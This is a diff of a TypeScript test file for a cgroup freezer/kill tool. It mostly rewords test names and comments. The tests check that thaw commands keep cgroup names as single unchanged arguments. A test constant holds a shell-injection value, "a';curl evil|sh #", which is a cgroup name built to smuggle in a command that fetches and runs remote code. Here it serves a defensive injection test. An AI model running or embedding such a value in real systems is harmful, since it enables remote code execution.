@@ -1,5 +1,5 @@
-// What a hint tells to run is an argument vector, and the names in it are given by whoever made the cgroup: each is one
-// argument as it is, and none stands in the prose.
+// The commands of a hint are argument vectors. Names of cgroups are chosen by their creators: each is one argument, unchanged,
+// and none is part of the hint's text.
 
 import { expect, test } from "bun:test";
 
@@ -17,7 +17,7 @@ const EVIL = "a';curl evil|sh #\\";
 const TOP = "/sys/fs/cgroup/freezer";
 const THAW = [["cgkill", "thaw", `${TOP}/${EVIL}`]];
 
-/** A target below a frozen cgroup of that name. */
+/** A target below a frozen cgroup that is called EVIL. */
 function below() {
   const kernel = new FakeKernel();
   kernel.addProcess({ group: kernel.makeGroup("freezer", `${EVIL}/target`), which: "freezer" });
@@ -28,7 +28,7 @@ function below() {
   return { kernel, plan, control };
 }
 
-test("a survivor that is frozen elsewhere", async () => {
+test("a survivor that another freezer cgroup freezes: the command thaws that cgroup", async () => {
   const on = model("kill");
   const group = on.kernel.makeGroup("freezer", EVIL);
   group.isSwitchedOn = true;
@@ -39,7 +39,7 @@ test("a survivor that is frozen elsewhere", async () => {
   expect(outcome.error).toMatchObject({ code: "survivors", commands: THAW });
 });
 
-test("a target below a frozen ancestor: refused, where nobody can be moved out", async () => {
+test("a target below a frozen ancestor, and no process can be moved out: refused, with the command that thaws it", async () => {
   const { kernel, plan } = below();
   kernel.isWritable = () => false;
   expect((await plan()).refusal).toMatchObject({
@@ -48,20 +48,20 @@ test("a target below a frozen ancestor: refused, where nobody can be moved out",
   });
 });
 
-test("a thaw below a frozen ancestor", async () => {
+test("a thaw below a frozen ancestor: the command thaws the ancestor", async () => {
   const { kernel, plan, control } = below();
   const { error } = await executeThaw(kernel, await plan(), control);
   expect(error).toMatchObject({ code: "frozen-ancestor", hint: "thaw the ancestor", commands: THAW });
 });
 
-test("a cgroup that could not be thawed", async () => {
+test("a cgroup that could not be thawed: the command thaws it", async () => {
   const { kernel, plan, control } = below();
   const ctx = newContext(kernel, await plan(), control);
   ctx.record.leftFrozen.add(`${TOP}/${EVIL}`);
   expect(resultOfKill(ctx, []).error).toMatchObject({ code: "left-frozen", hint: "thaw it", commands: THAW });
 });
 
-test("a threaded cgroup whose domain has to be named", async () => {
+test("a threaded cgroup: the command shows its domain", async () => {
   const kernel = new FakeKernel();
   const outside = kernel.makeGroup("v2", EVIL);
   const target = kernel.makeGroup("v2", `${EVIL}/target`);
